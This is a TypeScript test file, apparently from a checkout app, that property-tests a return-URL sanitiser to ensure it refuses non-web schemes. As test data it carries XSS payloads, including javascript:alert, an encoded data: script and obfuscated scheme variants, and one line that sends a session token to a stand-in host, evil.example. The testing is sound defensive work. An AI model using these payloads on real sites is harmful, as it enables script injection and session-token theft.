import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { getProcessOutcome, getResumeStart } from '../rules/checkout';
import { getBrandSettings } from '../rules/app-brand';
import { getSafeReturnUrl, isSafeReturnUrl } from './safe-url';

const HOSTILE_SCHEMES = ['javascript', 'data', 'vbscript', 'blob', 'file', 'about', 'ftp', 'chrome', 'ws'];

/** Every upper/lower-case spelling of a word, as fast-check draws them. */
const anyCase = (word: string) =>
  fc
    .array(fc.boolean(), { minLength: word.length, maxLength: word.length })
    .map((flags) => [...word].map((ch, i) => (flags[i] ? ch.toUpperCase() : ch)).join(''));

/** C0 control characters and spaces, which the URL parser strips around an address. */
const c0 = fc.integer({ min: 0, max: 0x20 }).map((code) => String.fromCharCode(code));
/** Tab, line feed and carriage return, which the URL parser removes anywhere, scheme included. */
const tabOrNewline = fc.constantFrom('\t', '\n', '\r');

/** Inserts tabs and newlines between the characters of a word. */
const sprinkled = (word: string) =>
  fc
    .array(fc.option(tabOrNewline, { nil: '' }), { minLength: word.length, maxLength: word.length })
    .map((gaps) => [...word].map((ch, i) => ch + gaps[i]).join(''));

const payload = fc.constantFrom(
  'alert(document.domain)',
  '//%0aalert(1)',
  'text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'msgbox("x")',
  '',
);

/** How long a property test of thousands of drawn URLs may take on a loaded CI machine. */
const PROPERTY_TIMEOUT_MS = 60_000;

describe('getSafeReturnUrl (the app never navigates to a non-web scheme)', () => {
  it('keeps https and http return URLs, normalised', () => {
    expect(getSafeReturnUrl('https://shop.example.com/thanks?order=1#top')).toBe(
      'https://shop.example.com/thanks?order=1#top',
    );
    expect(getSafeReturnUrl('http://localhost:3000/failed')).toBe('http://localhost:3000/failed');
    expect(getSafeReturnUrl('  HTTPS://Shop.Example.com/x')).toBe('https://shop.example.com/x');
    expect(isSafeReturnUrl('https://shop.example.com/')).toBe(true);
  });

  it(
    'refuses javascript:, data: and vbscript: in any case, with leading control characters and tabs inside the scheme',
    () => {
      fc.assert(
        fc.property(
          fc
            .constantFrom(...HOSTILE_SCHEMES)
            .chain((scheme) =>
              fc.tuple(fc.array(c0, { maxLength: 4 }), anyCase(scheme).chain(sprinkled), payload),
            ),
          ([lead, scheme, rest]) => {
            const url = `${lead.join('')}${scheme}:${rest}`;
            expect(getSafeReturnUrl(url)).toBeNull();
          },
        ),
        { numRuns: 2000 },
      );
      // 2,000 drawn inputs take about a second of one idle core; the limit leaves room for a busy machine.
    },
    PROPERTY_TIMEOUT_MS,
  );

  it('refuses protocol-relative, relative and percent- or entity-encoded schemes', () => {
    for (const url of [
      '//evil.example/x',
      '\\\\evil.example/x',
      '/\\evil.example',
      '/path/only',
      'evil.example',
      'javascript%3Aalert(1)',
      '%6A%61%76%61%73%63%72%69%70%74:alert(1)',
      '&#106;avascript:alert(1)',
      'java&#x09;script:alert(1)',
      'https:',
      'http://',
      '',
    ]) {
      expect(getSafeReturnUrl(url), url).toBeNull();
    }
    expect(getSafeReturnUrl(undefined)).toBeNull();
    expect(getSafeReturnUrl({ toString: () => 'https://shop.example.com' })).toBeNull();
  });

  it(
    'whatever the input, a non-null answer is an absolute http(s) URL that parses to itself',
    () => {
      fc.assert(
        fc.property(
          fc.oneof(
            fc.string(),
            fc.webUrl({ withQueryParameters: true, withFragments: true }),
            fc.tuple(fc.array(c0, { maxLength: 3 }), fc.string()).map(([lead, rest]) => lead.join('') + rest),
            fc
              .constantFrom('javascript:', 'data:', 'https://', '//', 'http:')
              .chain((head) => fc.string().map((rest) => head + rest)),
          ),
          (input) => {
            const safe = getSafeReturnUrl(input);
            if (safe === null) return;
            const parsed = new URL(safe);
            expect(['https:', 'http:']).toContain(parsed.protocol);
            expect(parsed.href).toBe(safe);
            expect(getSafeReturnUrl(safe)).toBe(safe);
          },
        ),
        { numRuns: 2000 },
      );
      // 2,000 drawn inputs take about a second of one idle core; the limit leaves room for a busy machine.
    },
    PROPERTY_TIMEOUT_MS,
  );

  it('keeps every well-formed web URL fast-check can draw', () => {
    fc.assert(
      fc.property(fc.webUrl({ validSchemes: ['https', 'http'], withQueryParameters: true }), (url) => {
        expect(getSafeReturnUrl(url)).toBe(new URL(url).href);
      }),
    );
  });
});

describe('the core rules that hand the app a URL to leave for pass only web URLs', () => {
  it('a process redirect to javascript: is no redirect; the cancel redirect and the brand link drop it too', () => {
    const hostile = 'javascript:fetch("//evil.example?t="+sessionStorage.getItem("token"))';
    expect(getProcessOutcome({ redirect: hostile }).route).not.toBe('external');
    expect(getProcessOutcome({ redirect: { url: hostile } }).route).not.toBe('external');
    expect(getProcessOutcome({ redirect: 'https://lender.example/next' })).toEqual({
      route: 'external',
      url: 'https://lender.example/next',
      sendStepUpdate: true,
    });
    expect(getResumeStart({ cancel: 'true', redirecting: true, return_url_failure: hostile })).toEqual({
      action: 'cancel',
      redirectTo: null,
    });
    expect(getBrandSettings({ brand: { url: hostile } }).brandUrl).toBeNull();
    expect(getBrandSettings({ brand: { url: 'https://brand.example' } }).brandUrl).toBe(
      'https://brand.example',
    );
  });
});
